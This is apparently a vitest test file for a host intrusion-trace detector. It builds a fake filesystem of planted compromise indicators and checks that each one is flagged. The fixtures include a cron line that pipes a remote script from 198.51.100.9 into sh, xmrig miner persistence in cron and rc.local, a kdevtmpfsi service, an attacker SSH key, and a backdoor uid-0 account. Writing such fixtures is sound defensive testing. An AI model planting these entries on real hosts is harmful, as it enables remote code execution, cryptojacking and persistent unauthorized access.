/**
 * Intrusion-trace investigation. The risky parts (cron, accounts, services, keys, logs) run against a
 * fixture root built here — the real /etc is never modified; executables are planted in a temp dir
 * under the real /tmp; then one run over the real machine checks the report's structure.
 */
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseMinerIocs } from '../../src/engines/mining/index.js';
import { buildTraceReport, type TraceReport, type TraceSectionId } from '../../src/engines/traces/index.js';
import { collectTraces, encodeUtmp } from '../../src/host/traces/index.js';

const iocs = parseMinerIocs(readFileSync(fileURLToPath(new URL('../../rules/mining/miner-iocs.txt', import.meta.url)), 'utf8')).iocs;
const NOW = Date.now();
const OLD = (NOW - 30 * 86_400_000) / 1000;

let root = '';
let plant = '';

function put(rel: string, text: string, opts: { old?: boolean; mode?: number } = {}): void {
  const p = join(root, rel);
  mkdirSync(dirname(p), { recursive: true });
  writeFileSync(p, text);
  if (opts.mode !== undefined) chmodSync(p, opts.mode);
  if (opts.old) utimesSync(p, OLD, OLD);
}

beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'vigil-traces-root-'));
  plant = mkdtempSync('/tmp/vigil-traces-exe-');
  copyFileSync('/bin/true', join(plant, '.kworker'));
  chmodSync(join(plant, '.kworker'), 0o755);
  writeFileSync(join(plant, 'run.sh'), '#!/bin/sh\necho hi\n', { mode: 0o755 });
  writeFileSync(join(plant, 'notes.txt'), 'plain data\n');

  put('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nguest:x:1001:1001::/home/guest:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n', { old: true });
  put('etc/shadow', 'root:$y$j9T$abc$def:19000:0:99999:7:::\ntoor:!:19000::::::\nguest::19000::::::\nalice:$6$salt$hash:19000::::::\n', { old: true });
  put('etc/crontab', '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n', { old: true });
  put('etc/cron.d/sysupdate', '*/10 * * * * root curl -fsSL http://198.51.100.9/i.sh | sh\n*/5 * * * * root /var/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333\n', { old: true });
  put('var/spool/cron/crontabs/alice', '0 9 * * 1 /home/alice/bin/report\n');
  put('etc/systemd/system/kdevtmpfsi.service', '[Service]\nExecStart=/dev/shm/kdevtmpfsi\n[Install]\nWantedBy=multi-user.target\n', { old: true });
  put('etc/systemd/system/nginx.service', '[Service]\nExecStart=/usr/sbin/nginx\n', { old: true });
  mkdirSync(join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
  symlinkSync('/etc/systemd/system/kdevtmpfsi.service', join(root, 'etc/systemd/system/multi-user.target.wants/kdevtmpfsi.service'));
  symlinkSync('/lib/systemd/system/ssh.service', join(root, 'etc/systemd/system/multi-user.target.wants/ssh.service'));
  put('lib/systemd/system/ssh.service', '[Service]\nExecStart=/usr/sbin/sshd -D\n', { old: true });
  put('etc/rc.local', '#!/bin/sh -e\n/var/tmp/.x/xmrig &\nexit 0\n', { old: true });
  put('etc/init.d/ssh', '#!/bin/sh\n# packaged\n', { old: true });
  put('var/lib/dpkg/info/openssh-server.list', '/.\n/lib/systemd/system/ssh.service\n/etc/init.d/ssh\n/usr/sbin/sshd\n', { old: true });
  put('var/lib/dpkg/info/nginx.list', '/etc/systemd/system/nginx.service\n', { old: true });
  put('root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@evil\n');
  put('home/alice/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAlice alice@laptop\n', { old: true });
  put('usr/bin/sshd-helper', '#!/bin/sh\n', { mode: 0o755 });
  put('usr/sbin/sshd', 'binary', { old: true });
  const wtmp = Buffer.concat([
    encodeUtmp({ type: 2, tty: '~', user: 'reboot', host: '6.1.0', timeMs: NOW - 7200_000 }),
    encodeUtmp({ type: 7, tty: 'pts/0', user: 'root', host: '203.0.113.66', timeMs: NOW - 3600_000 }),
    encodeUtmp({ type: 8, tty: 'pts/0', user: '', host: '', timeMs: NOW - 3500_000 }),
    encodeUtmp({ type: 7, tty: 'pts/1', user: 'alice', host: '10.0.0.8', timeMs: NOW - 600_000 }),
  ]);
  put('var/log/wtmp', '');
  writeFileSync(join(root, 'var/log/wtmp'), wtmp);
  const d = new Date(NOW - 1800_000);
  const mon = d.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' });
  const stamp = `${mon} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)}`;
  put('var/log/auth.log', `${stamp} web1 sshd[811]: Accepted password for root from 203.0.113.66 port 50022 ssh2\n${stamp} web1 sshd[812]: Accepted publickey for alice from 10.0.0.8 port 50100 ssh2: ED25519 SHA256:x\n`);
});

afterAll(() => {
  rmSync(root, { recursive: true, force: true });
  rmSync(plant, { recursive: true, force: true });
});

function section(r: TraceReport, id: TraceSectionId) {
  const s = r.sections.find((x) => x.id === id);
  if (!s) throw new Error(`no section ${id}`);
  return s;
}

describe('intrusion traces on a fixture root', () => {
  it('collects every section and explains each finding', () => {
    const snap = collectTraces({ root, tempDirs: [plant], nowMs: NOW, hostname: 'web1', utcOffsetMinutes: 0, systemDirs: ['/etc', '/usr/bin', '/usr/sbin', '/lib/systemd'] });
    const json = JSON.stringify(snap);
    expect(json).not.toContain('$y$j9T'); // shadow hashes never leave the collector
    expect(json).not.toContain('$6$salt');
    const report = buildTraceReport(snap, { minerIocs: iocs, minerPaths: ['/var/tmp/.x/xmrig'] });
    expect(report.hostname).toBe('web1');
    expect(report.level).toBe('serious');

    const logins = section(report, 'logins').items.map((i) => i.title);
    expect(logins).toEqual(expect.arrayContaining(['login root on pts/0 from 203.0.113.66', 'login alice on pts/1 from 10.0.0.8']));
    expect(section(report, 'logins').items.find((i) => i.evidence.user === 'root')?.level).toBe('suspicious');

    const remote = section(report, 'remote-logins').items;
    expect(remote.map((i) => [i.title, i.level])).toEqual([
      ['root via password from 203.0.113.66', 'suspicious'],
      ['alice via publickey from 10.0.0.8', 'info'],
    ]);

    const cron = section(report, 'cron').items;
    expect(cron.filter((i) => i.level === 'serious').map((i) => i.title).sort()).toEqual(['/etc/cron.d/sysupdate:1', '/etc/cron.d/sysupdate:2']);
    expect(cron.find((i) => i.title === '/var/spool/cron/crontabs/alice:1')?.level).toBe('suspicious'); // new, no package
    expect(cron.find((i) => i.title === '/etc/crontab:1')?.level).toBe('info');

    const accounts = section(report, 'accounts').items.map((i) => i.title);
    expect(accounts.sort()).toEqual(['guest has an empty password', 'toor has uid 0']);

    const temp = section(report, 'temp-executables').items.map((i) => [i.title.slice(plant.length), i.level]);
    expect(temp.sort()).toEqual([
      ['/.kworker', 'serious'],
      ['/run.sh', 'suspicious'],
    ]);

    const services = section(report, 'services').items.map((i) => [i.title, i.level]);
    expect(services).toEqual([
      ['kdevtmpfsi.service (enabled in multi-user.target.wants)', 'serious'],
      ['/etc/rc.local', 'serious'], // runs /var/tmp/.x/xmrig at boot
    ]);

    const recent = section(report, 'recent-files').items;
    expect(recent.find((i) => i.title === '/usr/bin/sshd-helper')?.level).toBe('serious');
    // mtime set 30 days back but ctime is now (as after timestomping): still listed, as a package file.
    expect(recent.find((i) => i.title === '/usr/sbin/sshd')?.level).toBe('info');

    const keys = section(report, 'authorized-keys').items.map((i) => [i.title, i.level]);
    expect(keys.sort()).toEqual([
      ['/home/alice/.ssh/authorized_keys: 1 key(s)', 'info'],
      ['/root/.ssh/authorized_keys: 1 key(s)', 'suspicious'],
    ]);

    expect(section(report, 'persistence').items.map((i) => i.title).sort()).toEqual(['/etc/cron.d/sysupdate:2', '/etc/rc.local:2']);
    expect(report.cleanup).toEqual([
      { action: 'delete-line', path: '/etc/cron.d/sysupdate', lineNo: 2, expected: '*/5 * * * * root /var/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333' },
      { action: 'delete-line', path: '/etc/rc.local', lineNo: 2, expected: '/var/tmp/.x/xmrig &' },
    ]);
    for (const sec of report.sections) for (const item of sec.items) expect(item.explanation.length).toBeGreaterThan(10);
  });
});

describe('intrusion traces on this machine', () => {
  it('produces a complete, bounded report and sees the planted /tmp executable', () => {
    const snap = collectTraces({ maxWalkEntries: 100_000 });
    const report = buildTraceReport(snap, { minerIocs: iocs });
    expect(report.sections.map((s) => s.id)).toEqual(['logins', 'remote-logins', 'cron', 'recent-files', 'accounts', 'temp-executables', 'services', 'authorized-keys', 'persistence']);
    expect(snap.accounts.some((a) => a.name === 'root' && a.uid === 0)).toBe(true);
    expect(JSON.stringify(snap)).not.toMatch(/\$(?:y|6|5|1|2[aby])\$[^"]{8,}/);
    const planted = section(report, 'temp-executables').items.find((i) => i.title === join(plant, '.kworker'));
    expect(planted?.level).toBe('serious');
    for (const sec of report.sections) expect(sec.items.length).toBeLessThanOrEqual(200);
    expect(report.counts.serious + report.counts.suspicious + report.counts.info).toBe(report.sections.reduce((n, s) => n + s.items.length, 0));
  });
});
